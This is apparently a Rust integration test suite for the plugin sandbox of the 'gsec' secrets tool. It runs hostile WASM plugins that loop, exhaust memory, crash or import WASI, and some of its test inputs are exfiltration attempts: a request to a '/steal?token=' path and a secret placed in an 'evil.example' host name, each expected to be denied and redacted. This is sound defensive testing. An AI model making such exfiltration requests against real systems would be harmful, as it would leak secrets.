//! Plugins through the binary: `gsec plugin inspect|list|call` with the
//! real `random` plugin and with hostile plugins (tests/fixtures/plugins/*.wat)
//! that loop, eat memory, call hosts they were not granted, receive 100 MB
//! responses, claim another ABI, crash mid-`create`, import WASI or do not
//! match their pin. Each must fail with a clear one-line error, exit 2,
//! stopped by the limit it broke (the error names it), leaving every
//! environment file byte-for-byte as it was. No test bounds how long a
//! plugin may take from above: on a loaded machine that flakes, and the
//! budget's accuracy is checked tick by tick in `src/plugin/tests.rs`.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use crate::common::{Env, expect_code};

/// Build the guest crates once per test run with the project script and
/// return `target/plugins/NAME.wasm` (so `cargo test` works on a fresh
/// checkout). Other test modules may use this too.
pub fn built_plugin(name: &str) -> PathBuf {
    static BUILT: OnceLock<Result<(), String>> = OnceLock::new();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let r = BUILT.get_or_init(|| {
        let out = std::process::Command::new(root.join("scripts/build-plugins.sh"))
            .env("GSEC_BUILD_QUIET", "1")
            .output()
            .map_err(|e| e.to_string())?;
        if out.status.success() {
            Ok(())
        } else {
            Err(String::from_utf8_lossy(&out.stderr).into_owned())
        }
    });
    if let Err(e) = r {
        panic!("scripts/build-plugins.sh failed: {e}");
    }
    let p = root.join("target/plugins").join(format!("{name}.wasm"));
    assert!(p.is_file(), "{} not built", p.display());
    p
}

/// A hostile fixture compiled from its `.wat`, with `@KEY@` placeholders
/// replaced.
fn fixture(name: &str, vars: &[(&str, &str)]) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/plugins")
        .join(format!("{name}.wat"));
    let mut text = std::fs::read_to_string(&path).unwrap();
    for (k, v) in vars {
        text = text.replace(&format!("@{k}@"), v);
    }
    wat::parse_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn sha256(b: &[u8]) -> String {
    Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

/// A project with one secret in two environments and plugin `name`
/// installed at `plugins/NAME.wasm`, configured with `extra` YAML lines
/// (`hosts`, `timeout_secs`, …) and pinned to `pin` (default: its hash).
struct Setup {
    e: Env,
    cache: PathBuf,
}

impl Setup {
    fn new(name: &str, wasm: &[u8], pin: Option<&str>, extra: &[&str]) -> Setup {
        let e = Env::project();
        e.set("DB_PASSWORD", "development", "dev-value-1");
        e.set("DB_PASSWORD", "production", "prod-value-1");
        std::fs::create_dir_all(e.path("plugins")).unwrap();
        std::fs::write(e.path(&format!("plugins/{name}.wasm")), wasm).unwrap();
        let mut cfg = e.read(".gsec.yaml");
        cfg.push_str(&format!(
            "plugins:\n  {name}:\n    path: plugins/{name}.wasm\n    sha256: {}\n",
            pin.map(str::to_string).unwrap_or_else(|| sha256(wasm))
        ));
        for l in extra {
            cfg.push_str(&format!("    {l}\n"));
        }
        e.write(".gsec.yaml", &cfg);
        let cache = e.tmp.path().join("cache");
        Setup { e, cache }
    }

    fn run(&self, args: &[&str], stdin: &[u8]) -> Output {
        let mut c = self.e.cmd(args);
        c.env("GSEC_CACHE_DIR", &self.cache);
        self.e.run_cmd(c, stdin)
    }

    /// Run and require success; returns the output.
    fn ok(&self, args: &[&str], stdin: &[u8]) -> Output {
        let out = self.run(args, stdin);
        assert!(
            out.status.success(),
            "gsec {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    /// Run and require success; returns stdout parsed as JSON.
    fn ok_json(&self, args: &[&str], stdin: &[u8]) -> serde_json::Value {
        let out = self.ok(args, stdin);
        serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("gsec {args:?}: stdout is not JSON: {e}"))
    }

    /// Run and require exit `code`; returns stderr.
    fn fails(&self, args: &[&str], stdin: &[u8], code: i32) -> String {
        expect_code(&self.run(args, stdin), args, code)
    }

    /// Every byte of every environment file and the config.
    fn vault(&self) -> Vec<(PathBuf, Vec<u8>)> {
        let mut v: Vec<(PathBuf, Vec<u8>)> = std::fs::read_dir(self.e.path("secrets"))
            .unwrap()
            .map(|d| d.unwrap().path())
            .filter(|p| p.is_file())
            .map(|p| (p.clone(), std::fs::read(&p).unwrap()))
            .collect();
        v.sort();
        assert!(v.len() >= 2, "expected environment files");
        v.push((
            self.e.path(".gsec.yaml"),
            std::fs::read(self.e.path(".gsec.yaml")).unwrap(),
        ));
        v
    }

    /// `gsec plugin call NAME OP` must fail (exit 2) with a one-line error
    /// containing every `want`, changing nothing.
    fn hostile(&self, name: &str, op: &str, want: &[&str]) -> String {
        let before = self.vault();
        let err = self.fails(&["plugin", "call", name, op], b"", 2);
        let last = err.lines().last().unwrap_or("");
        assert!(
            last.starts_with(&format!(
                "gsec: error: plugin '{name}' (plugins/{name}.wasm): "
            )),
            "{err}"
        );
        for w in want {
            assert!(last.contains(w), "missing {w:?} in: {err}");
        }
        assert!(self.vault() == before, "the vault changed");
        assert_eq!(
            self.e.get("DB_PASSWORD", "production").trim(),
            "prod-value-1"
        );
        err
    }
}

#[test]
fn random_plugin_inspect_list_and_call() {
    let wasm = std::fs::read(built_plugin("random")).unwrap();
    let s = Setup::new("random", &wasm, None, &[]);

    let v = s.ok_json(
        &[
            "plugin",
            "inspect",
            "plugins/random.wasm",
            "--format",
            "json",
        ],
        b"",
    );
    assert_eq!(v["name"], "random");
    assert_eq!(v["abi"], 1);
    assert_eq!(v["hosts"], serde_json::json!([]));
    assert_eq!(v["sha256"], sha256(&wasm));
    assert_eq!(v["config_schema"]["properties"]["length"]["default"], 32);
    let out = s.ok(&["plugin", "inspect", "plugins/random.wasm"], b"");
    let human = String::from_utf8_lossy(&out.stdout);
    assert!(
        human.contains("name:     random") && human.contains(&format!("sha256: {}", sha256(&wasm))),
        "{human}"
    );

    let v = s.ok_json(&["plugin", "list", "--format", "json"], b"");
    assert_eq!(v[0]["name"], "random");
    assert_eq!(v[0]["pin"], "ok");
    assert_eq!(v[0]["plugin"], "random 0.1.0");
    assert_eq!(v[0]["declared_hosts"], serde_json::json!([]));
    let out = s.ok(&["plugin", "list"], b"");
    assert!(String::from_utf8_lossy(&out.stdout).contains("random\tplugins/random.wasm\tpin ok"));

    let config = r#"{"length":20,"alphabet":"hex","prefix":"tok_"}"#;
    let v = s.ok_json(
        &["plugin", "call", "random", "create", "--config", config],
        b"",
    );
    assert_eq!(v["value"], "[REDACTED]");
    assert_eq!(v["length"], 24);

    let verify = [
        "plugin",
        "call",
        "random",
        "verify",
        "--value-stdin",
        "--config",
        r#"{"length":4,"alphabet":"abc"}"#,
    ];
    s.ok(&verify, b"abca\n");
    let err = s.fails(&verify, b"abcz\n", 2);
    assert!(
        err.contains(
            "plugin 'random' (plugins/random.wasm): 'verify' failed: value has characters outside"
        ),
        "{err}"
    );
    crate::common::assert_no_secret(&err, "abcz");

    let err = s.fails(
        &[
            "plugin",
            "call",
            "random",
            "create",
            "--config",
            r#"{"alphabet":"aab"}"#,
        ],
        b"",
        2,
    );
    assert!(err.contains("characters must be distinct"), "{err}");
}

#[test]
fn compiled_module_is_cached_and_a_corrupt_cache_is_recompiled() {
    let wasm = std::fs::read(built_plugin("random")).unwrap();
    let s = Setup::new("random", &wasm, None, &[]);
    s.ok(&["plugin", "call", "random", "info"], b"");
    let dir = s.cache.join("plugins");
    let entries: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|d| d.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "cwasm"))
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert!(
        entries[0]
            .file_name()
            .unwrap()
            .to_string_lossy()
            .starts_with(&sha256(&wasm))
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
            0o700
        );
    }
    // Garbage in the cache: recompiled, overwritten, still works.
    std::fs::write(&entries[0], b"not a compiled module").unwrap();
    s.ok(&["plugin", "call", "random", "create"], b"");
    assert!(
        std::fs::metadata(&entries[0]).unwrap().len() > 1000,
        "cache entry not rewritten"
    );
    // One flipped byte inside a valid artefact (its header still fine):
    // the digest kept beside it catches it, and it is compiled afresh.
    let good = std::fs::read(&entries[0]).unwrap();
    let mut bad = good.clone();
    let mid = bad.len() / 2;
    bad[mid] ^= 0xff;
    std::fs::write(&entries[0], &bad).unwrap();
    s.ok(&["plugin", "call", "random", "create"], b"");
    assert_ne!(
        std::fs::read(&entries[0]).unwrap(),
        bad,
        "corrupt entry kept"
    );
    // An entry without its digest (copied in from elsewhere, e.g. a CI
    // cache restore) is not mapped either.
    std::fs::remove_file(entries[0].with_extension("cwasm.sha256")).unwrap();
    std::fs::write(&entries[0], &bad).unwrap();
    s.ok(&["plugin", "call", "random", "create"], b"");
    assert!(entries[0].with_extension("cwasm.sha256").exists());
}

#[test]
fn hostile_infinite_loop_is_stopped_by_the_time_budget() {
    let s = Setup::new("loop", &fixture("loop", &[]), None, &["timeout_secs: 2"]);
    // The epoch ticks follow the wall clock and never run early, so a lower
    // bound cannot flake; an upper one could, on a busy machine.
    let t = Instant::now();
    s.hostile("loop", "create", &["exceeded its 2 s time budget"]);
    assert!(
        t.elapsed() >= Duration::from_millis(1900),
        "stopped before its budget"
    );
}

#[test]
fn hostile_memory_bomb_is_stopped_by_the_memory_limit() {
    let s = Setup::new(
        "membomb",
        &fixture("membomb", &[]),
        None,
        &["memory_mb: 16"],
    );
    s.hostile("membomb", "create", &["exceeded its 16 MiB memory limit"]);
}

#[test]
fn hostile_wrong_abi_version_is_refused_before_it_runs() {
    let s = Setup::new("wrong-abi", &fixture("wrong_abi", &[]), None, &[]);
    s.hostile(
        "wrong-abi",
        "create",
        &["plugin ABI version 2", "this gsec speaks version 1"],
    );
    let err = s.fails(&["plugin", "inspect", "plugins/wrong-abi.wasm"], b"", 2);
    assert!(err.contains("ABI version 2"), "{err}");
    // `list` reports it (pin fine, plugin unusable) and exits 1.
    let out = s.run(&["plugin", "list"], b"");
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("wrong-abi\tplugins/wrong-abi.wasm\tpin ok"),
        "{text}"
    );
    assert!(
        text.contains("  error:    built for plugin ABI version 2"),
        "{text}"
    );
}

#[test]
fn hostile_trap_in_the_middle_of_create() {
    let s = Setup::new("trap", &fixture("trap_create", &[]), None, &[]);
    let err = s.hostile(
        "trap",
        "create",
        &["crashed during 'create'", "unreachable"],
    );
    // What it logged before crashing is shown, prefixed with its name.
    assert!(
        err.contains("gsec: plugin 'trap': generating key..."),
        "{err}"
    );
}

#[test]
fn hostile_wasi_import_is_refused() {
    let s = Setup::new("wasi", &fixture("wasi_import", &[]), None, &[]);
    s.hostile(
        "wasi",
        "create",
        &[
            "imports 'wasi_snapshot_preview1.fd_write'",
            "WASI is not available",
        ],
    );
}

#[test]
fn hostile_sha256_mismatch_is_refused_before_compiling() {
    let wasm = std::fs::read(built_plugin("random")).unwrap();
    let pin = "0".repeat(64);
    let s = Setup::new("random", &wasm, Some(&pin), &[]);
    s.hostile(
        "random",
        "create",
        &["sha256 mismatch", &pin, &sha256(&wasm)],
    );
    // Nothing was compiled or cached for unpinned code.
    assert!(
        !s.cache.join("plugins").exists()
            || std::fs::read_dir(s.cache.join("plugins"))
                .unwrap()
                .next()
                .is_none()
    );
    let out = s.run(&["plugin", "list", "--format", "json"], b"");
    assert_eq!(out.status.code(), Some(1), "a mismatched pin is a finding");
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v[0]["pin"], "mismatch");
    assert_eq!(v[0]["actual_sha256"], sha256(&wasm));
}

/// A tiny HTTP server on 127.0.0.1 answering every request with `respond`;
/// returns its base URL and the paths it saw.
fn serve(respond: fn(tiny_http::Request)) -> (String, std::sync::mpsc::Receiver<String>) {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let url = format!("http://{}", server.server_addr().to_ip().unwrap());
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for req in server.incoming_requests() {
            let _ = tx.send(format!("{} {}", req.method(), req.url()));
            std::thread::spawn(move || respond(req));
        }
    });
    (url, rx)
}

fn echo_plugin(url: &str) -> Vec<u8> {
    let req_len = format!(r#"{{"method":"GET","url":"{url}"}}"#)
        .len()
        .to_string();
    fixture("http_echo", &[("URL", url), ("LEN", &req_len)])
}

#[test]
fn http_to_a_granted_host_works_and_transport_errors_reach_the_plugin() {
    let (base, seen) = serve(|r| {
        let _ = r.respond(tiny_http::Response::from_string("hello"));
    });
    let url = format!("{base}/ok");
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&url),
        None,
        &[&format!("hosts: [\"{base}\"]")],
    );
    s.ok(&["plugin", "call", "http-echo", "verify"], b"");
    assert_eq!(
        seen.recv_timeout(Duration::from_secs(5)).unwrap(),
        "GET /ok"
    );

    // A closed port: the plugin gets {"error": …} and reports it.
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let base = format!("http://127.0.0.1:{closed}");
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&format!("{base}/x")),
        None,
        &[&format!("hosts: [\"{base}\"]")],
    );
    s.hostile(
        "http-echo",
        "verify",
        &["'verify' failed: I/O error: connection refused"],
    );
}

#[test]
fn hostile_http_to_a_host_not_granted_is_denied() {
    let (base, seen) = serve(|r| {
        let _ = r.respond(tiny_http::Response::from_string("secret data"));
    });
    // Granted something else: denied, and the server never sees a request.
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&format!("{base}/steal?token=abc")),
        None,
        &["hosts: [api.github.com]"],
    );
    let err = s.hostile(
        "http-echo",
        "verify",
        &[&format!(
            "HTTP request to {base} denied: not granted in .gsec.yaml (plugins.http-echo.hosts)"
        )],
    );
    crate::common::assert_no_secret(&err, "token=abc");
    // Nothing granted at all.
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&format!("{base}/steal")),
        None,
        &[],
    );
    s.hostile("http-echo", "verify", &["denied: no hosts are granted"]);
    // Same host, other scheme: not the granted origin.
    let https = base.replace("http://", "https://");
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&format!("{https}/x")),
        None,
        &[&format!("hosts: [\"{base}\"]")],
    );
    s.hostile("http-echo", "verify", &["denied: not granted"]);
    assert!(
        seen.recv_timeout(Duration::from_millis(200)).is_err(),
        "a denied request reached the server"
    );
}

#[test]
fn hostile_100_mb_http_response_fails_cleanly() {
    let (base, _seen) = serve(|r| {
        let body = std::io::repeat(b'x').take(100 << 20);
        let _ = r.respond(tiny_http::Response::new(
            200.into(),
            vec![],
            body,
            Some(100 << 20),
            None,
        ));
    });
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&format!("{base}/big")),
        None,
        &[&format!("hosts: [\"{base}\"]"), "memory_mb: 64"],
    );
    s.hostile(
        "http-echo",
        "verify",
        &[&format!(
            "HTTP response from {base} exceeds the 8 MiB limit"
        )],
    );
}

#[test]
fn hostile_slow_http_server_cannot_outlive_the_budget() {
    let (base, _seen) = serve(|r| {
        std::thread::sleep(Duration::from_secs(20));
        let _ = r.respond(tiny_http::Response::from_string("late"));
    });
    let s = Setup::new(
        "http-echo",
        &echo_plugin(&format!("{base}/slow")),
        None,
        &[&format!("hosts: [\"{base}\"]"), "timeout_secs: 2"],
    );
    s.hostile("http-echo", "verify", &["exceeded its 2 s time budget"]);
}

#[test]
fn plugin_call_errors_are_clear() {
    let wasm = std::fs::read(built_plugin("random")).unwrap();
    let s = Setup::new("random", &wasm, None, &[]);
    for (args, want) in [
        (
            &["plugin", "call", "nope", "create"][..],
            "no plugin 'nope' under plugins",
        ),
        (
            &["plugin", "call", "random", "explode"],
            "unknown op 'explode'",
        ),
        (
            &["plugin", "call", "random", "create", "--config", "[1]"],
            "--config: expected a JSON object",
        ),
        (
            &["plugin", "call", "random", "create", "--config", "{hunter2"],
            "--config: not valid JSON at line 1 column 2",
        ),
    ] {
        let err = s.fails(args, b"", 2);
        assert!(err.contains(want), "{args:?}: {err}");
        crate::common::assert_no_secret(&err, "hunter2");
    }
    std::fs::write(s.e.path("notwasm.wasm"), b"hello").unwrap();
    let err = s.fails(&["plugin", "inspect", "notwasm.wasm"], b"", 2);
    assert!(
        err.contains("plugin 'notwasm' (notwasm.wasm): not a valid WebAssembly module"),
        "{err}"
    );
}

/// The guide's example plugin is `plugins/sdk/examples/hello.rs`, word for
/// word, so the documented plugin is one that builds.
#[test]
fn guide_example_is_the_built_example() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let doc = std::fs::read_to_string(root.join("docs/plugins.md")).unwrap();
    let example = std::fs::read_to_string(root.join("plugins/sdk/examples/hello.rs")).unwrap();
    let at = doc.find("`plugins/hello/src/lib.rs`").unwrap();
    let start = at + doc[at..].find("```rust\n").unwrap() + "```rust\n".len();
    let end = start + doc[start..].find("```\n").unwrap();
    assert!(
        doc[start..end] == example,
        "docs/plugins.md's example differs from plugins/sdk/examples/hello.rs"
    );
}

/// The guide's SDK plugin against a fake API on 127.0.0.1: the SDK's http,
/// inputs from the vault, ids, verify and revoke, end to end.
#[test]
fn sdk_example_plugin_talks_to_a_granted_api() {
    let (base, seen) = serve(|mut r| {
        let auth = r
            .headers()
            .iter()
            .find(|h| h.field.equiv("authorization"))
            .map(|h| h.value.to_string())
            .unwrap_or_default();
        let mut body = String::new();
        let _ = r.as_reader().read_to_string(&mut body);
        let (code, text) = match (r.method().as_str(), r.url(), auth.as_str()) {
            ("POST", "/tokens", "Bearer admin-key-123") if body.contains(r#""scope":"write""#) => {
                (201, r#"{"token":"tok-new-456789","id":"7"}"#)
            }
            ("GET", "/whoami", "Bearer tok-new-456789") => (200, r#"{"ok":true}"#),
            ("DELETE", "/tokens/6", "Bearer admin-key-123") => (204, ""),
            _ => (401, r#"{"message":"bad credentials"}"#),
        };
        let _ = r.respond(tiny_http::Response::from_string(text).with_status_code(code));
    });
    let wasm = std::fs::read(built_plugin("example-hello")).unwrap();
    let s = Setup::new("hello", &wasm, None, &[&format!("hosts: [\"{base}\"]")]);
    s.e.set("HELLO_ADMIN_KEY", "development", "admin-key-123");
    let config = format!(r#"{{"api_url":"{base}","scope":"write"}}"#);

    let out = s.ok(
        &[
            "plugin",
            "call",
            "hello",
            "create",
            "--config",
            &config,
            "--input",
            "HELLO_ADMIN_KEY",
        ],
        b"",
    );
    let err = String::from_utf8_lossy(&out.stderr);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (v["id"].as_str(), v["value"].as_str()),
        (Some("7"), Some("[REDACTED]"))
    );
    assert!(
        err.contains("gsec: plugin 'hello': created token 7"),
        "{err}"
    );
    crate::common::assert_no_secret(&err, "admin-key-123");
    assert_eq!(
        seen.recv_timeout(Duration::from_secs(5)).unwrap(),
        "POST /tokens"
    );

    let verify = [
        "plugin",
        "call",
        "hello",
        "verify",
        "--config",
        &config,
        "--value-stdin",
    ];
    s.ok(&verify, b"tok-new-456789\n");
    let err = s.fails(&verify, b"tok-wrong\n", 2);
    assert!(err.contains("'verify' failed: HTTP 401"), "{err}");

    s.ok(
        &[
            "plugin",
            "call",
            "hello",
            "revoke",
            "--config",
            &config,
            "--id",
            "6",
            "--input",
            "HELLO_ADMIN_KEY",
        ],
        b"",
    );
    // Without the input, a clear error naming it (never a value).
    let err = s.fails(
        &[
            "plugin", "call", "hello", "revoke", "--config", &config, "--id", "6",
        ],
        b"",
        2,
    );
    assert!(
        err.contains("input secret 'HELLO_ADMIN_KEY' is required"),
        "{err}"
    );
}

#[test]
fn a_plugin_logging_the_value_it_creates_is_redacted() {
    let s = Setup::new("leaky", &fixture("leaky_log", &[]), None, &[]);
    let out = s.ok(&["plugin", "call", "leaky", "create"], b"");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("gsec: plugin 'leaky': made [REDACTED] for you"),
        "{err}"
    );
    crate::common::assert_no_secret(&err, "s3cr3t-new-value-123");
    crate::common::assert_no_secret(
        &String::from_utf8_lossy(&out.stdout),
        "s3cr3t-new-value-123",
    );
}

/// A plugin that tries to carry a secret out in a host name (DNS-style
/// exfiltration): the request is denied, and the denial does not show the
/// secret even though the host was lowercased on the way (a fuzz finding:
/// redaction was case-sensitive).
#[test]
fn hostile_secret_in_a_denied_host_name_is_redacted_whatever_its_case() {
    let s = Setup::new(
        "http-echo",
        &echo_plugin("https://exfilvalue1234.evil.example/x"),
        None,
        &["hosts: [api.github.com]"],
    );
    let err = s.fails(
        &["plugin", "call", "http-echo", "verify", "--value-stdin"],
        b"ExfilValue1234\n",
        2,
    );
    assert!(
        err.contains("denied") && err.contains("[REDACTED]"),
        "{err}"
    );
    assert!(
        !err.to_ascii_lowercase().contains("exfilvalue1234"),
        "{err}"
    );
}
